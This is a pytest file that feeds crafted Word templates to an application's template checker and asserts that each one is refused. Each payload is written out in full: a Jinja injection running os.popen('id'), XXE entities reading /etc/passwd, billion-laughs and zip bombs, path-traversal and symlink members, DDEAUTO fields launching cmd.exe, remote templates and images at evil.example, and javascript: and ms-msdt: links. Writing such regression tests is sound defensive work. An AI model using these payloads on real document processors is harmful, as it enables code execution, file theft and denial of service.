"""Attacks by a Word template, by name: each refused with its finding, or without effect.

| who sends what | where it is held |
|---|---|
| a template | here; every spelling of an expression in ``tests/letters/test_grammar.py``, every relation, part and element in ``test_parts.py``, every field code in ``test_fieldcodes.py``, the container in ``test_package.py`` |
| values in a case file | ``test_values.py`` beside this file |
| a workbook | ``test_workbooks.py`` beside this file; ``tests/cases/test_package.py``, ``tests/rulebooks/test_reader*.py`` |
| a browser | ``tests/web/test_security.py`` (headers, tokens, bounds, sign-in), ``test_rights.py`` (who opens what), ``test_downloads.py`` (paths) |
| a process that hangs all the same | ``tests/jobs/test_bounded.py`` |
"""

# ruff: noqa: E501 - an attack stands on one line
from __future__ import annotations

import io
import struct
import time
import zipfile
from typing import NamedTuple

import pytest

from app.jobs import bounded
from tests.letters.checking import codes, is_refused
from tests.letters.made import members, rebuilt
from tests.letters.word import R_SPACE, W_SPACE, docx, field, p, part, part_type, relation, run, tbl, tr, zipped

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
SHELL = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"
PLAIN = docx(p("{{ 客户名称 }}"))
SECONDS = 5
"""However busy the machine, no attack may hold a process longer."""


class Attack(NamedTuple):
    file: bytes
    code: str
    """Of the finding that refuses it."""


def properties(markup: str) -> bytes:
    spaces = 'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    return docx(
        p("x"), types=part_type("docProps/core.xml", CORE_TYPE),
        extra={"docProps/core.xml": f"<cp:coreProperties {spaces}>{markup}</cp:coreProperties>"},
    )  # fmt: skip


def story(kind: str, root: str, markup: str) -> bytes:
    return docx(p("x"), types=part_type(f"word/{kind}.xml", kind), extra={f"word/{kind}.xml": part(root, markup)})


def picture(text: str) -> str:
    return f'<w:p><w:r><w:drawing><wp:docPr id="1" name="图" descr="{text}"/></w:drawing></w:r></w:p>'


def cut_field(*pieces: str) -> str:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    code = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:p>{mark.format('begin')}{code}{mark.format('separate')}{run('x')}{mark.format('end')}</w:p>"


def with_relation(kind: str, target: str) -> bytes:
    return docx(p("x"), relations=relation(kind, target, external=True))


def xml_part(name: str, content: str | bytes) -> bytes:
    return docx(p("x"), types=part_type(name, "styles"), extra={name: content})


ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY a "ha">' + "".join(f'<!ENTITY a{n} "{"&a;" * 10}">' for n in range(9)) + "]>"
STYLES = f'<w:styles xmlns:w="{W_SPACE}">{{}}</w:styles>'


def elsewhere(body: str) -> bytes:
    """A document that is not in the folder where all others are: Word finds it by its type."""
    files = members(docx(body))
    return zipped({
        name.replace("word/", "docs/"): content.replace(b"word/document.xml", b"docs/document.xml")
        for name, content in files.items()
    })  # fmt: skip


def twins() -> bytes:
    """Two members of one name, and only one of them is what the check sees."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
        for name, content in [*members(PLAIN).items(), ("word/document.xml", b"<evil/>")]:
            archive.writestr(name, content)
    return target.getvalue()


def symbolic_link() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in members(PLAIN).items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def lying_size() -> bytes:
    honest = rebuilt(PLAIN, {"word/media/a.png": b"\0" * (4 << 20)})
    return honest.replace(struct.pack("<L", 4 << 20), struct.pack("<L", 100))


def overlapping() -> bytes:
    """Many directory entries for the same bytes."""
    one = zipped({"word/media/a.png": bytes(range(256)) * 4000})
    at, end = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entries = b"".join(one[at:end].replace(b"a.png", f"{n:c<5}".encode()[:5]) for n in range(10, 60))
    tail = bytearray(one[end:])
    struct.pack_into("<HHI", tail, 8, 50, 50, len(entries))
    return one[:at] + entries + bytes(tail)


ATTACKS = {
    # code in places other than the body
    "a call in the body": Attack(docx(p(SHELL)), "call-refused"),
    "a call in the header": Attack(docx(p("x"), header=p(SHELL)), "call-refused"),
    "a call in the footer": Attack(docx(p("x"), footer=p(SHELL)), "call-refused"),
    "a call in a footnote": Attack(story("footnotes", "footnotes", f'<w:footnote w:id="2">{p(SHELL)}</w:footnote>'), "call-refused"),
    "a call in an endnote": Attack(story("endnotes", "endnotes", f'<w:endnote w:id="2">{p(SHELL)}</w:endnote>'), "call-refused"),
    "a call in a text box": Attack(docx(f"<w:p><w:r><w:pict><w:txbxContent>{p(SHELL)}</w:txbxContent></w:pict></w:r></w:p>"), "call-refused"),
    "a call in a content control": Attack(docx(f"<w:sdt><w:sdtContent>{p(SHELL)}</w:sdtContent></w:sdt>"), "call-refused"),
    "a call in the title": Attack(properties(f"<dc:title>{SHELL}</dc:title>"), "call-refused"),
    "a call in the keywords": Attack(properties(f"<cp:keywords>{SHELL}</cp:keywords>"), "call-refused"),
    "a call in a field code": Attack(docx(field(f" REF {SHELL} ")), "tag-misplaced"),
    "a call in a simple field": Attack(docx(f'<w:p><w:fldSimple w:instr="REF {SHELL}"/></w:p>'), "tag-misplaced"),
    "a call in an alternative text": Attack(docx(picture(SHELL)), "tag-misplaced"),
    "a call in a deletion": Attack(docx(f"<w:p><w:del><w:r><w:delText>{SHELL}</w:delText></w:r></w:del></w:p>"), "tag-misplaced"),
    "a call cut into runs": Attack(docx(p("{", "{ x.__cl", "ass__ }", "}")), "name-refused"),
    "a call behind entities": Attack(docx(p("x").replace(">x<", ">&#123;&#123; x() &#125;&#125;<")), "call-refused"),
    "a call in a row tag": Attack(docx(tbl(tr("{%tr for a in x() %}"), tr("x"), tr("{%tr endfor %}"))), "call-refused"),
    "a call as a cell's colour": Attack(docx(tbl(tr("{% cellbg x() %}甲"))), "call-refused"),
    # hanging and growing
    "a power at compile": Attack(docx(p("{{ 10**50000000 }}")), "power-refused"),
    "a text repeated": Attack(docx(p("{{ 'a' * 1000000000 }}")), "repetition-refused"),
    "a list repeated": Attack(docx(p("{% for a in [1] * 1000000000 %}{% endfor %}")), "repetition-refused"),
    "a huge range": Attack(docx(p("{% for a in range(10**9) %}{% endfor %}")), "call-refused"),
    "a padded format": Attack(docx(p("{{ '%0999999999d' % 1 }}")), "repetition-refused"),
    "loops in loops": Attack(docx(p("{% for a in x %}" * 9 + "{% endfor %}" * 9)), "loops-too-deep"),
    "brackets in brackets": Attack(docx(p("{{ " + "not " * 70 + "x }}")), "expression-too-deep"),
    "openers without end": Attack(docx(p("{{" * 100_000)), "too-many-findings"),
    "tags without end": Attack(docx(p("{{x}}" * 100_000)), "too-many-tags"),
    "elements in elements": Attack(docx("<w:sdt>" * 240 + "</w:sdt>" * 240), "xml-too-deep"),
    # the container
    "a bomb": Attack(rebuilt(PLAIN, {"word/media/a.png": b"\0" * (8 << 20)}), "zip-bomb"),
    "a bomb of markup": Attack(rebuilt(PLAIN, {"word/document.xml": b"<w:p/>" * 600_000}), "zip-bomb"),
    "a bomb in a bomb": Attack(rebuilt(PLAIN, {"word/media/a.docx": zipped({"x.xml": b"\0" * (60 << 20)})}), "part-refused"),
    "a thousand members": Attack(zipped({f"word/media/{n}.png": "x" for n in range(1000)}), "too-many-parts"),
    "a member that lies about its size": Attack(lying_size(), "not-docx"),
    "members over each other": Attack(overlapping(), "not-docx"),
    "two members of one name": Attack(twins(), "part-name"),
    "a name that climbs": Attack(rebuilt(PLAIN, {"../../etc/cron.d/x": b"x"}), "part-name"),
    "an absolute name": Attack(rebuilt(PLAIN, {"/etc/passwd.xml": b"<a/>"}), "part-name"),
    "a symbolic link": Attack(symbolic_link(), "part-refused"),
    "a document with a password": Attack(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old-format"),
    # XML
    "an entity from a file": Attack(docx(extra={"word/document.xml": f"{ENTITY}<x>&e;</x>"}), "xml-doctype"),
    "an entity in the styles": Attack(xml_part("word/styles.xml", ENTITY + STYLES.format("&e;")), "xml-doctype"),
    "an entity in the relationships": Attack(docx(extra={"_rels/.rels": f"{ENTITY}<x/>"}), "xml-doctype"),
    "an entity in the content types": Attack(docx(extra={"[Content_Types].xml": f"{ENTITY}<x/>"}), "xml-doctype"),
    "an entity in UTF-16": Attack(xml_part("word/styles.xml", (ENTITY + STYLES.format("&e;")).encode("utf-16")), "xml-doctype"),
    "a billion laughs": Attack(xml_part("word/styles.xml", LAUGHS + STYLES.format("&a8;")), "xml-doctype"),
    # strangers
    "a remote template": Attack(with_relation("attachedTemplate", "https://evil.example/t.dotm"), "template-link"),
    "a template on a share": Attack(with_relation("attachedTemplate", "\\\\evil\\t.dotm"), "template-link"),
    "a remote template in capitals": Attack(rebuilt(PLAIN, {"word/_rels/settings.xml.RELS": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("attachedTemplate", "https://evil.example/t.dotm", external=True)}</Relationships>'.encode()}), "template-link"),
    "a picture that tells who reads": Attack(with_relation("image", "https://evil.example/a.png"), "external-image"),
    "a picture by old markup": Attack(docx('<w:p><w:r><w:pict><v:imagedata src="http://evil.example/a"/></w:pict></w:r></w:p>'), "external-image"),
    "a remote object": Attack(with_relation("oleObject", "https://evil.example/a"), "embedded-object"),
    "a program as a link": Attack(with_relation("hyperlink", "file:///C:/calc.exe"), "link-refused"),
    "a script as a link": Attack(with_relation("hyperlink", "javascript:alert(1)"), "link-refused"),
    "a handler as a link": Attack(with_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"), "link-refused"),
    "remote styles": Attack(with_relation("styles", "https://evil.example/s.xml"), "external-part"),
    "a frame": Attack(with_relation("frame", "https://evil.example"), "relation-refused"),
    "macros": Attack(docx(p("x"), types=part_type("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), relations=relation(f"{MICROSOFT}/vbaProject", "vbaProject.bin"), extra={"word/vbaProject.bin": b"x"}), "macro"),
    "macros as a picture": Attack(docx(p("x"), types=part_type("word/vbaProject.bin", "image/png"), extra={"word/vbaProject.bin": b"x"}), "macro"),
    "an embedded workbook": Attack(docx(p("x"), types=part_type("word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), extra={"word/embeddings/a.xlsx": b"x"}), "embedded-object"),
    "ActiveX": Attack(docx("<w:p><w:r><w:control/></w:r></w:p>"), "embedded-object"),
    "a chunk of HTML": Attack(docx('<w:altChunk r:id="rId5"/>', relations=relation("aFChunk", "a.html")), "alt-chunk"),
    "a subdocument": Attack(docx('<w:subDoc r:id="rId5"/>'), "sub-document"),
    "a customers' database": Attack(docx(p("x"), types=part_type("word/settings.xml", "settings"), extra={"word/settings.xml": part("settings", "<w:mailMerge/>")}), "mail-merge"),
    "text from another place over ours": Attack(docx(f"<w:sdt><w:sdtPr><w:dataBinding w:xpath='/a'/></w:sdtPr><w:sdtContent>{p('{{ 客户名称 }}')}</w:sdtContent></w:sdt>"), "tag-in-bound-control"),
    # fields
    "DDE": Attack(docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "field-refused"),
    "DDE cut into runs": Attack(docx(cut_field("D", "DE", "AUTO c:\\x")), "field-refused"),
    "DDE in a simple field": Attack(docx('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'), "field-refused"),
    "DDE in lower case": Attack(docx(field("ddeauto x")), "field-refused"),
    "DDE in a header": Attack(docx(p("x"), header=field("DDEAUTO x")), "field-refused"),
    "DDE in a document kept in another folder": Attack(elsewhere(field("DDEAUTO x")), "field-refused"),
    "DDE in a part whose name hides that it is XML": Attack(docx(p("x"), types=part_type("word/header9.bin", "header"), relations=relation("header", "header9.bin"), extra={"word/header9.bin": part("hdr", field("DDEAUTO x"))}), "part-refused"),
    "DDE in a part of the other dialect": Attack(docx(p("x"), types=part_type("word/header9.xml", "header"), relations=relation("header", "header9.xml"), extra={"word/header9.xml": part("hdr", field("DDEAUTO x")).replace(W_SPACE, "http://purl.oclc.org/ooxml/wordprocessingml/main")}), "strict-format"),
    "DDE nested in a harmless field": Attack(docx(field(" = 1 ").replace("<w:instrText> = 1 </w:instrText></w:r>", "<w:instrText> = 1 </w:instrText></w:r>" + cut_field("DDEAUTO x").removeprefix("<w:p>").removesuffix("</w:p>"))), "field-refused"),
    "INCLUDETEXT": Attack(docx(field('INCLUDETEXT "c:\\\\secret.docx"')), "field-refused"),
    "INCLUDEPICTURE": Attack(docx(field('INCLUDEPICTURE "http://evil.example/a.png" \\d')), "field-refused"),
    "LINK": Attack(docx(field("LINK Excel.Sheet c:\\\\a.xlsx")), "field-refused"),
    "MACROBUTTON": Attack(docx(field("MACROBUTTON AutoOpen x")), "field-refused"),
    "a field hidden by QUOTE": Attack(docx(field("QUOTE 68 68 69")), "field-refused"),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_by_name_and_at_once(name):
    attack = ATTACKS[name]
    started = time.perf_counter()
    assert attack.code in codes(attack.file)
    assert is_refused(attack.file)
    assert time.perf_counter() - started < SECONDS


HARMLESS = {
    "a tag in a style's name is no tag": xml_part("word/styles.xml", STYLES.format(f'<w:style w:styleId="a"><w:name w:val="{SHELL}"/></w:style>')),
    "a tag in a comment is no tag": docx(p("x"), types=part_type("word/comments.xml", "comments"), relations=relation("comments", "comments.xml"), extra={"word/comments.xml": part("comments", f'<w:comment w:id="1">{p(SHELL)}</w:comment>')}),
    "a tag in custom XML is no tag": docx(p("x"), extra={"customXml/item1.xml": f"<a>{SHELL}</a>"}),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_code_where_nothing_is_filled_in_stays_text(name):
    """Nothing is run: if such a file passes, its letter carries the text as it was written."""
    made = bounded.render(HARMLESS[name], "模板.docx", {})
    assert any(b"cycler" in content for content in members(made).values())
    assert not any(b"uid=" in content for content in members(made).values())


def test_an_external_relation_cannot_pass_for_an_internal_one():
    assert codes(docx(p("x"), relations=relation("image", "//evil.example/a.png"))) == ["external-image"]
    assert codes(
        docx(p("x"), relations=f'<Relationship Id="a" Type="{R_SPACE}/image" Target="../../../etc/passwd"/>')
    ) == ["relation-broken"]
